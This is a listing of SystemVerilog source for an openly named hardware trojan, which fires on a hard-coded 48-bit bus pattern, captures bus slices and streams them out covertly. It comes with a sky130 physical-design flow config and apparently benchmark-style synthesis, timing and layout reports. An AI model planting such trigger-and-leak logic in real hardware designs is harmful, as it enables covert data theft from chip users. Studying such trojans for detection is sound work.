$ cat src/rtl/trojan_pkg.sv
// Shared definitions for the trojan trigger/capture/leak engine.
//   - trojan_state_e      : engine state encoding
//   - TROJAN_TRIG_PATTERN : default 48-bit trigger value
//   - clog2()             : ceiling log2 for sizing counters and selects
package trojan_pkg;

    typedef enum logic [2:0] {
        ST_IDLE    = 3'd0,
        ST_CAPTURE = 3'd1,
        ST_LEAK    = 3'd2,
        ST_DONE    = 3'd3,
        ST_LOCKED  = 3'd4
    } trojan_state_e;

    localparam logic [47:0] TROJAN_TRIG_PATTERN = 48'h00000044ab93;

    // Ceiling log2; clog2(1) = 0.
    function automatic int clog2(input int value);
        int result;
        int remaining;
        result    = 32'sd0;
        remaining = value - 32'sd1;
        while (remaining > 32'sd0) begin
            result    = result + 32'sd1;
            remaining = remaining >>> 1;
        end
        return result;
    endfunction

endpackage

$ cat src/rtl/trojan_leak_shreg.sv
// Capture/shift register for the leak engine.
// Ports:
//   clk, rst_n     : clock and synchronous active-low reset
//   clr            : synchronous clear of the whole register
//   wr_en, wr_idx  : write wr_slice into slice wr_idx (other slices held)
//   wr_slice       : LEAK_W-bit slice to store
//   shift_en       : shift right by BITS_PER_CYCLE with zero fill
//   cap_q          : current register contents
// Priority: clr over wr_en over shift_en.
module trojan_leak_shreg #(
    parameter int LEAK_W         = 16,
    parameter int CAPTURE_DEPTH  = 4,
    parameter int BITS_PER_CYCLE = 2,
    parameter int IDX_W          = 2,
    localparam int CAP_W         = CAPTURE_DEPTH * LEAK_W
) (
    input  logic              clk,
    input  logic              rst_n,
    input  logic              clr,
    input  logic              wr_en,
    input  logic [IDX_W-1:0]  wr_idx,
    input  logic [LEAK_W-1:0] wr_slice,
    input  logic              shift_en,
    output logic [CAP_W-1:0]  cap_q
);

    logic [CAP_W-1:0] cap_d;

    // Next-value selection: clear, slice write or shift.
    always_comb begin
        cap_d = cap_q;
        if (clr) begin
            cap_d = '0;
        end else if (wr_en) begin
            for (int k = 0; k < CAPTURE_DEPTH; k++) begin
                if (wr_idx == IDX_W'(k)) begin
                    cap_d[k*LEAK_W +: LEAK_W] = wr_slice;
                end else begin
                    cap_d[k*LEAK_W +: LEAK_W] = cap_q[k*LEAK_W +: LEAK_W];
                end
            end
        end else if (shift_en) begin
            cap_d = cap_q >> BITS_PER_CYCLE;
        end else begin
            cap_d = cap_q;
        end
    end

    // Register update with synchronous reset.
    always_ff @(posedge clk) begin
        if (!rst_n) begin
            cap_q <= '0;
        end else begin
            cap_q <= cap_d;
        end
    end

endmodule

$ cat src/rtl/trojan_leak_engine.sv
// Trigger/capture/leak engine. Waits in IDLE for data[TRIG_W-1:0] to equal
// TRIG_PATTERN, latches a slice select from the bits just above the pattern,
// captures CAPTURE_DEPTH slices on the following cycles, then streams the
// captured bits LSB-first, BITS_PER_CYCLE per cycle, to the payload module.
// Ports:
//   clk        : clock
//   rst_all    : synchronous active-low reset
//   data       : monitored bus
//   leak_en    : payload enable (high for each leak beat)
//   leak_bits  : payload bits
//   busy       : capture or leak in progress
//   done       : one-cycle pulse after the last leak beat
//   locked     : engine has fired once and is disarmed (REARM = 0)
// All outputs are registered from the current state, so each output appears
// one cycle after the state it reflects.
module trojan_leak_engine
    import trojan_pkg::*;
#(
    parameter int                DATA_W         = 64,
    parameter int                TRIG_W         = 48,
    parameter logic [TRIG_W-1:0] TRIG_PATTERN   = TRIG_W'(TROJAN_TRIG_PATTERN),
    parameter int                LEAK_W         = 16,
    parameter int                CAPTURE_DEPTH  = 4,
    parameter int                BITS_PER_CYCLE = 2,
    parameter bit                REARM          = 1'b0
) (
    input  logic                      clk,
    input  logic                      rst_all,
    input  logic [DATA_W-1:0]         data,
    output logic                      leak_en,
    output logic [BITS_PER_CYCLE-1:0] leak_bits,
    output logic                      busy,
    output logic                      done,
    output logic                      locked
);

    localparam int NUM_SLICES = DATA_W / LEAK_W;
    localparam int SEL_W      = (clog2(NUM_SLICES) > 32'sd1) ? clog2(NUM_SLICES) : 32'sd1;
    localparam int CAP_W      = CAPTURE_DEPTH * LEAK_W;
    localparam int LEAK_CYC   = CAP_W / BITS_PER_CYCLE;
    localparam int CNT_MAX    = (CAPTURE_DEPTH > LEAK_CYC) ? CAPTURE_DEPTH : LEAK_CYC;
    localparam int CNT_W      = clog2(CNT_MAX + 32'sd1);
    localparam int IDX_W      = (clog2(CAPTURE_DEPTH) > 32'sd1) ? clog2(CAPTURE_DEPTH) : 32'sd1;

    if (DATA_W % LEAK_W != 0) begin : g_chk_slice
        $error("DATA_W must be a multiple of LEAK_W");
    end
    if (CAP_W % BITS_PER_CYCLE != 0) begin : g_chk_beat
        $error("CAP_W must be a multiple of BITS_PER_CYCLE");
    end
    if (TRIG_W + SEL_W > DATA_W) begin : g_chk_sel
        $error("TRIG_W + SEL_W must not exceed DATA_W");
    end

    trojan_state_e             state_q, state_d;
    logic [CNT_W-1:0]          cnt_q, cnt_d;
    logic [SEL_W-1:0]          sel_q, sel_d;
    logic                      leak_en_q, leak_en_d;
    logic [BITS_PER_CYCLE-1:0] leak_bits_q, leak_bits_d;
    logic                      busy_q, busy_d;
    logic                      done_q, done_d;
    logic                      locked_q, locked_d;

    logic                      trig_s;
    logic [SEL_W-1:0]          sel_raw_s;
    logic [SEL_W-1:0]          sel_wrap_s;
    logic [LEAK_W-1:0]         slice_s;
    logic                      wr_en_s;
    logic                      shift_en_s;
    logic                      cap_clr_s;
    logic [CAP_W-1:0]          cap_s;

    assign trig_s    = (data[TRIG_W-1:0] == TRIG_PATTERN);
    assign sel_raw_s = data[TRIG_W +: SEL_W];
    assign slice_s   = data[32'(sel_q) * LEAK_W +: LEAK_W];

    // Out-of-range selects wrap; sel_raw < 2*NUM_SLICES so one subtraction is enough.
    always_comb begin
        if (32'(sel_raw_s) >= NUM_SLICES) begin
            sel_wrap_s = sel_raw_s - SEL_W'(NUM_SLICES);
        end else begin
            sel_wrap_s = sel_raw_s;
        end
    end

    trojan_leak_shreg #(
        .LEAK_W         (LEAK_W),
        .CAPTURE_DEPTH  (CAPTURE_DEPTH),
        .BITS_PER_CYCLE (BITS_PER_CYCLE),
        .IDX_W          (IDX_W)
    ) u_shreg (
        .clk      (clk),
        .rst_n    (rst_all),
        .clr      (cap_clr_s),
        .wr_en    (wr_en_s),
        .wr_idx   (cnt_q[IDX_W-1:0]),
        .wr_slice (slice_s),
        .shift_en (shift_en_s),
        .cap_q    (cap_s)
    );

    // Next-state, counter, select and capture-register controls.
    always_comb begin
        state_d    = state_q;
        cnt_d      = cnt_q;
        sel_d      = sel_q;
        wr_en_s    = 1'b0;
        shift_en_s = 1'b0;
        cap_clr_s  = 1'b0;
        case (state_q)
            ST_IDLE: begin
                if (trig_s) begin
                    sel_d   = sel_wrap_s;
                    cnt_d   = '0;
                    state_d = ST_CAPTURE;
                end else begin
                    state_d = ST_IDLE;
                end
            end
            ST_CAPTURE: begin
                wr_en_s = 1'b1;
                if (cnt_q == CNT_W'(CAPTURE_DEPTH - 1)) begin
                    cnt_d   = '0;
                    state_d = ST_LEAK;
                end else begin
                    cnt_d   = cnt_q + CNT_W'(1);
                end
            end
            ST_LEAK: begin
                shift_en_s = 1'b1;
                if (cnt_q == CNT_W'(LEAK_CYC - 1)) begin
                    cnt_d   = '0;
                    state_d = ST_DONE;
                end else begin
                    cnt_d   = cnt_q + CNT_W'(1);
                end
            end
            ST_DONE: begin
                cap_clr_s = 1'b1;
                if (REARM) begin
                    state_d = ST_IDLE;
                end else begin
                    state_d = ST_LOCKED;
                end
            end
            ST_LOCKED: begin
                state_d = ST_LOCKED;
            end
            default: begin
                state_d = ST_IDLE;
                cnt_d   = '0;
            end
        endcase
    end

    // Output values derived from the current state; leak_bits carries the
    // register LSBs before this cycle's shift, so slice 0 leaves first.
    always_comb begin
        leak_en_d = (state_q == ST_LEAK);
        busy_d    = (state_q == ST_CAPTURE) || (state_q == ST_LEAK);
        done_d    = (state_q == ST_DONE);
        locked_d  = (state_q == ST_LOCKED);
        if (state_q == ST_LEAK) begin
            leak_bits_d = cap_s[BITS_PER_CYCLE-1:0];
        end else begin
            leak_bits_d = '0;
        end
    end

    // State and output registers with synchronous reset.
    always_ff @(posedge clk) begin
        if (!rst_all) begin
            state_q     <= ST_IDLE;
            cnt_q       <= '0;
            sel_q       <= '0;
            leak_en_q   <= 1'b0;
            leak_bits_q <= '0;
            busy_q      <= 1'b0;
            done_q      <= 1'b0;
            locked_q    <= 1'b0;
        end else begin
            state_q     <= state_d;
            cnt_q       <= cnt_d;
            sel_q       <= sel_d;
            leak_en_q   <= leak_en_d;
            leak_bits_q <= leak_bits_d;
            busy_q      <= busy_d;
            done_q      <= done_d;
            locked_q    <= locked_d;
        end
    end

    assign leak_en   = leak_en_q;
    assign leak_bits = leak_bits_q;
    assign busy      = busy_q;
    assign done      = done_q;
    assign locked    = locked_q;

endmodule

$ cat config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_leak_engine
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_pkg.sv /design/src/rtl/trojan_leak_shreg.sv /design/src/rtl/trojan_leak_engine.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_MARGIN = 5
export CORE_UTILIZATION = 40
export DETAILED_ROUTE_END_ITERATION = 8
export GPL_ROUTABILITY_DRIVEN = 0
export PLACE_DENSITY_LB_ADDON = 0.05
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
$ cat constraint.sdc
create_clock -name clk -period 4.8 [get_ports clk]
set_input_delay 0.48 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.48 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
---- After elaboration in Yosys (flattened, before gate mapping) ----
Cells that the tools add are included.
word-level totals
  bits in writable memories ............... 0
  memories ................................ 0
  logic and storage cells ................. 64
  bits in latches ......................... 0
  ROM bits ................................ 0
  flip-flop bits (word level) ............. 81
operators by class
  eq/ne operators ......................... 17
  mux-type cells .......................... 17
  shifts and indexed selects .............. 1
  add/subtract/negate cells ............... 1
  magnitude comparators ................... 0
  multipliers ............................. 0
  divide/modulo/power cells ............... 0
  bitwise gates (word level) .............. 2
  reduce and logical (&&, ||, !) cells .... 14
operators with widths
  kind                  count
  $mux 64               2
  $mux 16               4
  $shiftx 64x7->16      1
  $eq 48x23->1 const B  1
  $pmux 6 s4            1
  $mux 6                3
  $reduce_and 2->1      8
  $ne 2x2->1 const B    6
  $pmux 3 s4            1
  $add 6x1->6 const B   1
  $eq 3x2->1 const B    2
  $eq 6x2->1 const B    1
  $eq 6x5->1 const B    1
  $mux 3                2
  $eq 2x2->1 const B    2
  $mux 1                4
  $reduce_or 2->1       2
  $eq 3x1->1 const B    1
  $eq 3x3->1 const B    1
  $logic_not 3->1       1
  $eq 2x1->1 const B    1
  $logic_not 2->1       1
  $ne 2x1->1 const B    1
  $not 1->1             2
  other kinds (2)       2

---- Logic depth before layout (Yosys ltp) ----
  depth after elaboration ................. 4
  gate-level depth with buffers ........... 8

---- By module ----
From an unflattened synthesis, not the netlist that was laid out.
unflattened totals
  cell total of the unflattened synthesis .. 425
  area total of the unflattened synthesis .. 4381.7 um^2
modules (own cells, without submodules)
  module              cells an instance  area an instance (um^2)  seq. area each (um^2)  instances
  trojan_leak_shreg   303                3109.2                   1281.2                 1
  trojan_leak_engine  122                1272.5                   340.3                  1

---- Worst setup path after synthesis ----
OpenSTA, ideal clock, no wires.
  kind .................................... input to register
  start ................................... input data[16]
  end ..................................... register cnt_q[2]
  data required time ...................... 4.667 ns
  path slack .............................. 3.106 ns
  stages on the path ...................... 6
  buffers on the path ..................... 1
  arrival time ............................ 1.561 ns
  setup time .............................. 0.133 ns
  path through ............................ nor4b_1 > nand4_1 > o41ai_1 > and2_1 > buf_2 > a311oi_2
on the way
  word-level cells in the longest chain between the ends .. 3
ends and longest elaborated chain
  element                            line                       source
  from (decl)                        trojan_leak_engine.sv:29   input logic [DATA_W-1:0] data,
  $eq 48x23->1                       trojan_leak_engine.sv:73   assign trig_s = (data[TRIG_W-1:0] == TRIG_PATTERN);
  $ne 2x2->1 (no source line)        --
  $reduce_and 2->1 (no source line)  --
  to (signal assigned)               trojan_leak_engine.sv:183  cnt_q <= cnt_d;
  to (decl)                          trojan_leak_engine.sv:56   logic [CNT_W-1:0] cnt_q, cnt_d;
Every way passes these cells.
A chain may end at the register's enable or synchronous reset.

---- Worst setup path after layout ----
  start ................................... input rst_all
  end ..................................... register u_shreg.cap_q[57]
on the way
  word-level cells in the longest chain between the ends .. 2
ends and longest elaborated chain
  element                           line                      source
  from (decl)                       trojan_leak_engine.sv:28  input logic rst_all,
  $not 1->1 (no source line)        --
  $reduce_or 2->1 (no source line)  --
  to (signal assigned)              trojan_leak_shreg.sv:54   cap_q <= cap_d;
  to (decl)                         trojan_leak_shreg.sv:24   output logic [CAP_W-1:0] cap_q
Every way passes these cells.

==> flow_summary.toml <==
[global_route]
grt_usage = 0.1881
grt_first_pass_wirelength_um = 16970
grt-ovfl-total = 0
grt_pass1_vias = 3224
antenna_found_initial = 0
grt_start_max_net_pins = 63

[setup_path]
worstSetupStartpointType = "primary input"
cp-end-kind = "flop"
critPathArrivalTime_ns = 2.94
crit_required_ns = 5.08
path_class = "in -> reg"
crit_path_max_fanout = 42

[power_and_ir_drop]
vdd_drop_max_mv = 0.1541
p_per_area_nw_per_um2 = 257.3
finalPower_mw = 1.197
p_leak_nw = 1.609

[timing]
period_minus_slack_ns = 2.650
tns_ns = 0
hold_viol = 0
drv_slew = 0
grt_setup_unrepaired = "no"
tightest_slew_ns = 1.213
holdWs_ns = 0.4789
relSlewSlack = 0.1912
fin_crit_sh = 0.5522
setup_viol = 0
finClkSkew_ns = 0.009640
timing.fmax_mhz = 377.3
setup_ws_ns = 2.150

[place]
place_area_um2 = 4479
place_hpwl_um = 7253
io_buffers = 71
dp.cells = 581
place_ws_ns = 1.747

[die]
rows = 35
die_area_um2 = 11440
initial_core_util = 0.4090
die_h_um = 107.0
dieWidth_um = 107.0
design.core.area_um2 = 9196
io_pins = 72

[synth]
yosysTopAreaCellShare = 0.4311
syn-num-nets = 500
synth_area_um2 = 3761
synth_cell_type_count = 34
yosysSeqAreaShare = 0.4311
synth_seq_cells = 81
yosysTopAreaCell = "dfxtp_1"
synthCells = 430
synth_area_leaders = "dfxtp_1, a21oi_1, mux4_2"
yosysWarningCount = 0
postSynthAreaPerCell_um2 = 8.747

[layout]
multiInputGateArea_um2 = 1974
fin_util = 0.5057
nNetsFinal = 551
antenna_cells = 0
final_cell_count_no_fill = 597
area_growth_pct = 23.65
drive_above_1_share = 0.08436
mostFrequentLayoutCell = "a21oi_1"
layout_common_cells = "a21oi_1, dfxtp_1, clkdlybuf4s50_1"
regArea_um2 = 1622
final_area_um2 = 4651
n_fill_cell = 905

[drt]
drt_first_pass_iters = 4
postRouteAntennaNets = 0
wirelength_um = 10250
wl_per_cell_um = 17.17
drc = 0
first_iter_violations = 186
via_per_inst = 5.610
via_count = 3349

[clock_tree]
clock_tree.root_cell = "clkbuf_8"
cts_resized = 0
cts_tree = "built"
worstSkewPairLatency_ns = 0.36
cts_buffers = 9
clock_sinks = 81
htreeDepth = 3
clkTransAtPathRegs_ns = 0.08
clock_path_buffers = 2
post-cts-setup-buffer-count = 0
postCtsHoldBufs = 0

[hold_path]
hp-class = "reg -> reg"

[run]
max-cap-violations = 0

[run_status]
outcome = "complete, no violations"
cells by family (layout without fill, tap and decap cells):
kind of cell	Yosys count	after routing	share of synthesized area
AND/OR/NAND/NOR	88	88	0.1321
adder cells (fa/ha/maj)	4	4	0.01331
flip-flops	81	81	0.4311
multiplexers	18	18	0.1011
buffers and inverters	37	93	0.04391
AO/OA/AOI/OAI	202	202	0.2784
power breakdown:
group | leakage, nW | total, mW | switching (mW) | internal, mW
Combinational | 0.872 | 0.0857 | 0.0261 | 0.0596
Clock | 0.0850 | 0.440 | 0.254 | 0.186
Sequential | 0.652 | 0.671 | 0.0000000000000000847 | 0.671
per-layer routing:
metal / global-route usage / share of wire / routed length [um]
met5: 0 / 0 / 0
met4: 0.05479 / 0.012 / 118
met3: 0.04937 / 0.035 / 362
met2: 0.3008 / 0.48 / 4932
met1: 0.2505 / 0.47 / 4834
final timing paths:
check                    start           endpoint  slack, ns  cells past startpoint
max                    rst_all  u_shreg.cap_q[57]       2.15                      5
min          u_shreg.cap_q[32]  u_shreg.cap_q[30]       0.48                      2
max reg2reg         state_q[2]  u_shreg.cap_q[57]       2.35                      5
min reg2reg  u_shreg.cap_q[32]  u_shreg.cap_q[30]       0.48                      2
synthesized netlist by cell type:
cell	count
a21oi_1	121
dfxtp_1	81
o21ai_0	69
nand2_1	28
clkbuf_1	24
and2_1	17
mux4_2	16
a31oi_1	8
nand3_1	7
nor4b_1	7
nor2_1	6
buf_2	5
ha_1	4
nor4_1	4
and3_1	3
buf_4	3
inv_1	3
nand4_1	3
mux2i_1	2
nand2b_1	2
nand3b_1	2
nor3_1	2
nor4bb_1	2
a21o_4	1
a311oi_2	1
buf_6	1
clkbuf_2	1
nand2_2	1
nand2_4	1
nor3b_1	1
nor3b_2	1
o31ai_1	1
o41ai_1	1
or3b_1	1
layout make-up:
class | count | area share
Sequential cell | 81 | 0.3487
Timing Repair Buffer | 74 | 0.1577
Clock buffer | 9 | 0.02663
Multi-Input combinational cell | 312 | 0.4245
Inverter | 3 | 0.002421
Clock inverter | 7 | 0.01022
Tap cell | 111 | 0.02986
state kept, by name (all words and copies together) (netlist names):
name and flops:
u_shreg.cap_q 64, cnt_q 6, state_q 3, leak_bits 2, sel_q 2, busy 1, done 1, leak_en 1
locked 1
worst max-delay path, stage by stage:
cell and delay, ns:
clkdlybuf4s50_1 0.77, and2_1 1.01, buf_4 0.37, o21ai_0 0.13, a21oi_1 0.16
Note: power is estimated with default switching activity, not from simulation.
